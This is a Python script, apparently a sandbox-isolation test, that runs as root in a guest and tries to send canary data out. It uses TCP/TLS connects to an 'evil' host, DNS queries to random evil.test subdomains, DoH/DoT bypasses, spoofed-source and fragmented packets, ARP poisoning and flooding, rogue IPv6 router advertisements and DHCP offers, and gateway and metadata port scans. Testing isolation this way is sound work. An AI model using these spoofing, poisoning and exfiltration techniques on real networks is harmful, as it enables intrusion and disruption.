"""network.py PLACES: runs in the guest as root and tries to leave. PLACES is JSON: addresses and ports that must not be reached. Prints one JSON
object: what each family of attempts saw. The judge is on the host: its canaries; what a guest calls "connected" is no proof of anything.

The family `reach` is for a sandbox that may reach a name: it says what the tools of the other families reach there."""

import errno
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor

places = json.loads(sys.argv[1])
wanted = sys.argv[2].split(",")
scale = int(sys.argv[3]) if len(sys.argv) > 3 else 1
GATEWAY, GUEST, IFACE = "10.0.0.1", "10.0.0.2", "eth0"
MINE, THEIRS = bytes.fromhex("025ace000002"), bytes.fromhex("025ace000001")
result = {}


def tcp(address, port, say=b"CANARY-ESCAPE", family=socket.AF_INET, wait=2.0):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(wait)
            s.connect((address, port))
            s.sendall(say)
            try:
                answer = s.recv(100)
                return f"answer {answer!r}" if answer else "connected, closed"
            except OSError as error:
                return "connected, " + type(error).__name__
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)


def tls(address, port, say, name=None, wait=2.0):
    """The same inside TLS, where any certificate will do; `name`: the one that the hello asks for."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((address, port), wait) as plain, context.wrap_socket(plain, server_hostname=name) as s:
            s.sendall(say)
            answer = s.recv(100)
            return f"answer {answer!r}" if answer else "handshake, closed"
    except OSError as error:
        return type(error).__name__ if isinstance(error, ssl.SSLError) else errno.errorcode.get(error.errno, type(error).__name__)


def doh(url, target, seconds=3):
    """curl's exit status for a page whose host is looked up over HTTPS."""
    return subprocess.run(["curl", "-s", "-m", str(seconds), "--doh-url", url, target], capture_output=True).returncode


def question(name, kind=1, options=b""):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode("latin1").split(b".") if label) + b"\0"
    return os.urandom(2) + struct.pack(">5H", 256, 1, 0, 0, 1 if options else 0) + labels + struct.pack(">2H", kind, 1) + options


def counts(answer):
    return f"rcode {answer[3] & 15} answers {struct.unpack('>H', answer[6:8])[0]}" if len(answer) >= 12 else "short"


def query(name, kind=1, server=GATEWAY, over_tcp=False, options=b""):
    message = question(name, kind, options)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM if over_tcp else socket.SOCK_DGRAM) as s:
            s.settimeout(1.5)
            s.connect((server, 53))
            s.send(struct.pack(">H", len(message)) + message if over_tcp else message)
            answer = s.recv(4096)
            answer = answer[2:] if over_tcp else answer
            return counts(answer)
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)


def side_by_side(attempts):
    """Results of functions by name: most of them wait for an answer that does not come."""
    with ThreadPoolExecutor(16) as pool:
        under_way = {name: pool.submit(*attempt) for name, attempt in attempts.items()}
    return {name: one.result() for name, one in under_way.items()}


def frames(*contents):
    with socket.socket(17, 3, 0) as s:
        s.bind((IFACE, 0))
        sent = 0
        for content in contents:
            try:
                sent += s.send(content) > 0
            except OSError:
                pass
        return sent


def checksum(content):
    total = sum(struct.unpack(f">{len(content) // 2}H", content + b"\0" * (len(content) % 2))) if len(content) % 2 == 0 else checksum(content + b"\0")
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def ip(source, target, protocol, payload, flags=0, mac=MINE, ident=1):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, flags, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    head = head[:10] + struct.pack(">H", 0xFFFF & ~checksum(head)) + head[12:]
    return THEIRS + mac + b"\x08\x00" + head + payload


def udp(source, target, port, say=b"CANARY-ESCAPE"):
    return ip(source, target, 17, struct.pack(">HHHH", 40000, port, 8 + len(say), 0) + say)


def echo(target, say=b"CANARY-ESCAPE!"):
    """An echo request with the right checksum: one with another is thrown away by whoever gets it."""
    def made(check):
        return struct.pack(">BBHHH", 8, 0, check, 0x5ACE, 1) + say
    return ip(GUEST, target, 1, made(0xFFFF & ~checksum(made(0))))


def arp(sender_mac, sender, target, operation=2):
    return b"\xff" * 6 + MINE + b"\x08\x06" + struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, sender_mac, socket.inet_aton(sender), b"\xff" * 6, socket.inet_aton(target))


def syn(source, target, port, flags=2):
    segment = struct.pack(">HHIIBBHHH", 40000, port, 1, 0, 0x50, flags, 8192, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(segment))
    return ip(source, target, 6, segment[:16] + struct.pack(">H", 0xFFFF & ~checksum(pseudo + segment)) + segment[18:])


def a01():
    return side_by_side({f"{address}:{port}": (tcp, address, port) for address, port in [*places["tcp"], [places["evil"], 80], [places["evil"], 443], ["1.1.1.1", 443], ["1.1.1.1", 80], ["192.0.2.1", 80]]})


def a02():
    ports = range(1, 65536) if scale > 1 else [*range(1, 1025, 16), 22, 25, 53, 123, 443, 853, 2375, 3128, 5432, 6379, 8080, 10250, 15001, 15053, 49983, 65535]
    return counted(side_by_side({port: (knock, "1.1.1.1", port) for port in ports}))


def counted(outcomes):
    return {outcome: list(outcomes.values()).count(outcome) for outcome in sorted(set(outcomes.values()))}


def a03():
    return counted(side_by_side({n: (query, os.urandom(15).hex() + ".evil.test", 16) for n in range(200 if scale > 1 else 20)}))


def a05():
    return side_by_side({f"{server} {'tcp' if over_tcp else 'udp'}": (query, "a.evil.test", 1, server, over_tcp) for server in ("8.8.8.8", "1.1.1.1", places["host"]) for over_tcp in (False, True)})


def a06():
    return side_by_side({str(kind): (query, "allowed.test", kind) for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 43, 48, 52, 64, 65, 99, 255, 256, 65280)})


def a07():
    dot = question("a.evil.test")
    dot = struct.pack(">H", len(dot)) + dot
    seen = side_by_side({"853": (tcp, "1.1.1.1", 853), "853 in TLS": (tls, "1.1.1.1", 853, dot), "doh": (doh, "https://1.1.1.1/dns-query", "https://evil.test/")})
    if places["closed"]:  # a server that is there and would answer
        seen["the attacker's server"] = tls(places["evil"], 443, b"GET /dns-query HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
    return {**seen, "udp 853": frames(udp(GUEST, "1.1.1.1", 853)), "udp 443": frames(udp(GUEST, "1.1.1.1", 443))}


def a09():
    return {**side_by_side({address: (ping, address) for address in (places["host"], places["evil"], "1.1.1.1")}), "frames": frames(echo("127.0.0.1"), echo(GATEWAY))}


def a10():
    return {"frames": frames(*(ip(GUEST, address, protocol, b"CANARY-ESCAPE-" + bytes(50)) for protocol in (2, 4, 41, 47, 50, 51, 132, 136, 33, 255) for address in (places["host"], "1.1.1.1")))}


def a11():
    subprocess.run("ip -6 addr add fd00::2/64 dev eth0; ip -6 route replace default via fd00:5ace::1 dev eth0", shell=True, capture_output=True)
    seen = side_by_side({address: (tcp, address, port, b"CANARY-ESCAPE", socket.AF_INET6) for address, port in (("2606:4700::1111", 80), ("fd00:5ace::1", 22), ("fe80::1", 80), ("::ffff:" + places["host"], places["tcp"][0][1]))})
    subprocess.run("ip -6 addr del fd00::2/64 dev eth0", shell=True, capture_output=True)
    return seen


def a13():
    spoofed = [frame for source in (places["host"], "10.0.0.1", "127.0.0.1", "10.0.0.3", "1.2.3.4") for address, port in places["tcp"] for frame in (syn(source, address, port), udp(source, address, port))]
    other_mac = [ip(GUEST, places["host"], 17, bytes(20), mac=mac) for mac in (bytes.fromhex("025ace000001"), bytes.fromhex("ffffffffffff"), os.urandom(6))]
    return {"frames": frames(*spoofed, *other_mac)}


def a14():
    made = [arp(MINE, GATEWAY, GATEWAY), arp(b"\xff" * 6, GATEWAY, GUEST)] + [arp(os.urandom(6), f"10.{i % 200}.{i // 256 % 256}.{i % 256}", GATEWAY) for i in range(100000 if scale > 1 else 500)]
    return {"frames": frames(*made), "afterwards": tcp(GATEWAY, 22)}


def a15():
    advert = bytes.fromhex("86000000400807080000000000000000") + bytes.fromhex("030440c0000070800000708000000000") + socket.inet_pton(socket.AF_INET6, "2001:db8::")

    def from_router(source):
        ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, "ff02::1")
        check = 0xFFFF & ~checksum(ends + struct.pack(">II", len(advert), 58) + advert)
        return bytes.fromhex("333300000001") + MINE + b"\x86\xdd" + struct.pack(">IHBB", 6 << 28, len(advert), 58, 255) + ends + advert[:2] + struct.pack(">H", check) + advert[4:]
    offer = b"\x02\x01\x06\x00" + bytes(240)
    return {"frames": frames(from_router("fe80::5ace:2"), from_router("fe80::5a:ceff:fe00:2"), ip("10.0.0.2", "255.255.255.255", 17, struct.pack(">HHHH", 67, 68, 8 + len(offer), 0) + offer))}


def a17():
    ports = range(1, 65536) if scale > 1 else [*range(1, 200), 443, 2375, 6060, 8000, 8080, 8443, 9090, 9100, 15001, 15053, 49983]
    open_ports = [port for port, outcome in side_by_side({port: (knock, GATEWAY, port) for port in ports}).items() if outcome == "connected"]
    words = (b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b'{"method":"list"}\n')
    return {"connected": len(open_ports), "talk": side_by_side({f"{port} {what[:12]!r}": (tcp, GATEWAY, port, what) for port in open_ports[:6] for what in words})}


def knock(address, port):
    with socket.socket() as s:
        s.settimeout(1)
        code = s.connect_ex((address, port))
        return errno.errorcode.get(code, str(code)) if code else "connected"


def a18():
    return side_by_side({f"{address}:{port}": (tcp, address, port) for address in (places["host"], "10.0.0.1", "172.17.0.1", "192.168.0.1", "169.254.169.254", "127.0.0.1") for port in (22, 80, 2375, 5432, 7777, 8080, 10250)})


def a19():
    seen = side_by_side({f"{address}:{port}": (tcp, address, port) for address in ("10.0.0.3", "10.0.0.6", "10.0.1.2", "10.255.255.255") for port in (8080, 49983)})
    seen["frames"] = frames(udp(GUEST, "224.0.0.251", 5353), udp(GUEST, "239.255.255.250", 1900), b"\xff" * 6 + udp(GUEST, "255.255.255.255", 8080)[6:])
    return seen


def answer_to(made, matches, ethertype=0x0800, wait=2.0):
    """Sends frames that were put together here: the first one that comes back and `matches`, None without one."""
    with socket.socket(17, 3, socket.htons(ethertype)) as s:
        s.bind((IFACE, ethertype))
        for frame in made:
            s.send(frame)
        until = time.monotonic() + wait
        while (left := until - time.monotonic()) > 0:
            s.settimeout(left)
            try:
                frame = s.recv(2048)
            except OSError:
                return None
            if matches(frame):
                return frame
    return None


def comes_from(frame, protocol, source):
    return len(frame) > 41 and frame[23] == protocol and frame[26:30] == socket.inet_aton(source)


def accepted(frame, target):
    """Whether a SYN, made here, is accepted: the frames of this program do leave the interface."""
    return answer_to([frame], lambda got: comes_from(got, 6, target) and len(got) > 47 and got[47] & 0x12 == 0x12) is not None


def ping(address):
    got = answer_to([echo(address)], lambda got: comes_from(got, 1, address) and got[34] == 0)
    return f"answer {got[42:]!r}" if got else "no answer"


def resolved_by_hand(name, in_pieces=False):
    """What the gateway answers to a question that was sent as a frame, or as two fragments of one."""
    asked = question(name)
    payload = udp(GUEST, GATEWAY, 53, asked)[34:]
    made = [ip(GUEST, GATEWAY, 17, payload[:16], 0x2000, ident=53), ip(GUEST, GATEWAY, 17, payload[16:], 2, ident=53)] if in_pieces else [ip(GUEST, GATEWAY, 17, payload)]
    got = answer_to(made, lambda got: comes_from(got, 17, GATEWAY) and got[34:36] == b"\0\x35" and got[42:44] == asked[:2])
    return counts(got[42:]) if got else "no answer"


def resolved_gateway():
    """Whether the gateway's side answers an ARP request."""
    return answer_to([arp(MINE, GUEST, GATEWAY, 1)], lambda got: len(got) > 41 and got[20:22] == b"\0\2" and got[28:32] == socket.inet_aton(GATEWAY), 0x0806) is not None


def reach():
    """`name` may be reached, on the ports of HTTP and HTTPS; its server notes the paths that it is asked for."""
    name = places["name"]

    def ask(path):
        return f"GET /{path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode()
    tools = {"tcp": (tcp, name, 80, ask("tcp"), socket.AF_INET, 8), "tcp6": (tcp, name, 80, ask("tcp6"), socket.AF_INET6, 8), "tls": (tls, name, 443, ask("tls"), name, 8),
             "doh": (doh, f"https://{name}/doh", "https://elsewhere.test/", 12), "query": (query, name), "query over TCP": (query, name, 1, GATEWAY, True),
             "query elsewhere": (query, name, 1, "8.8.8.8"), "query elsewhere over TCP": (query, name, 1, "8.8.8.8", True),
             "syn": (accepted, syn(GUEST, "198.18.0.9", 80), "198.18.0.9"), "options": (accepted, options(bytes.fromhex("020405b4"), "198.18.0.10", 80), "198.18.0.10"),
             "echo": (ping, GATEWAY), "udp": (resolved_by_hand, name), "fragments": (resolved_by_hand, name, True), "arp": (resolved_gateway,)}
    return side_by_side({tool: tools[tool] for tool in places["tools"]})


def options(segment_options, target, port, say=b""):
    """A SYN with options, and data in it."""
    size = 20 + len(segment_options)
    segment = struct.pack(">HHIIBBHHH", 40001, port, 1, 0, size // 4 << 4, 2, 8192, 0, 0) + segment_options + say
    pseudo = socket.inet_aton(GUEST) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(segment))
    return ip(GUEST, target, 6, segment[:16] + struct.pack(">H", 0xFFFF & ~checksum(pseudo + segment)) + segment[18:])


def a21():
    made = []
    for address, port in [*places["tcp"], [places["evil"], 80]]:
        made += [options(bytes.fromhex("2202") + b"\1\1", address, port, b"CANARY-ESCAPE!"), options(bytes.fromhex("220a0102030405060708") + b"\1\1", address, port, b"CANARY-ESCAPE!"),
                 options(bytes.fromhex("1e0c0081") + os.urandom(8), address, port), options(b"\x08\xff\1\1", address, port)]
        payload = struct.pack(">HHHH", 40000, port, 100, 0) + b"CANARY-ESCAPE" * 8
        made += [ip(GUEST, address, 17, payload[:8], 0x2000), ip(GUEST, address, 17, payload[8:24], 1), ip(GUEST, address, 17, payload[:24], 0x2000, ident=2), ip(GUEST, address, 17, payload[8:], 1, ident=2), ip(GUEST, address, 17, bytes(64), 0x1FFF)]
        made += [syn(GUEST, address, port, flags) for flags in (3, 0x29, 0, 0x3F, 6)]
    return {"frames": frames(*made)}


def a22():
    made = [b"\xff" * 6 + MINE + kind + bytes(60) for kind in (b"\x81\x00", b"\x88\xa8", b"\x88\xcc", b"\x88\x47", b"\x88\x63", b"\x00\x26", b"\x88\x8e")]
    made += [MINE, b"\x01\x80\xc2\x00\x00\x00" + MINE + b"\x00\x26" + bytes(38), THEIRS + b"\x01" + MINE[1:] + b"\x08\x00" + bytes(40), THEIRS + MINE + b"\x08\x00" + bytes(1486)]
    return {"frames": frames(*made)}


def a27():
    def median(name):
        times = []
        for _ in range(9):
            begun = time.monotonic()
            query(name)
            times.append(time.monotonic() - begun)
        return round(sorted(times)[4] * 1000, 2)
    return {name: median(name) for name in ("one.evil.test", "localhost", "nothing.invalid", "example.org")}


for name in wanted:
    try:
        result[name] = globals()[name]()
    except Exception as error:
        result[name] = {"error": repr(error)}
try:
    result["answered by hand"] = {"syn": accepted(syn(GUEST, "198.18.0.9", 80), "198.18.0.9"), "echo": ping(GATEWAY)}
except Exception as error:
    result["answered by hand"] = repr(error)
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(1)
result["control"] = tcp("127.0.0.1", server.getsockname()[1], wait=0.5)
print(json.dumps(result))
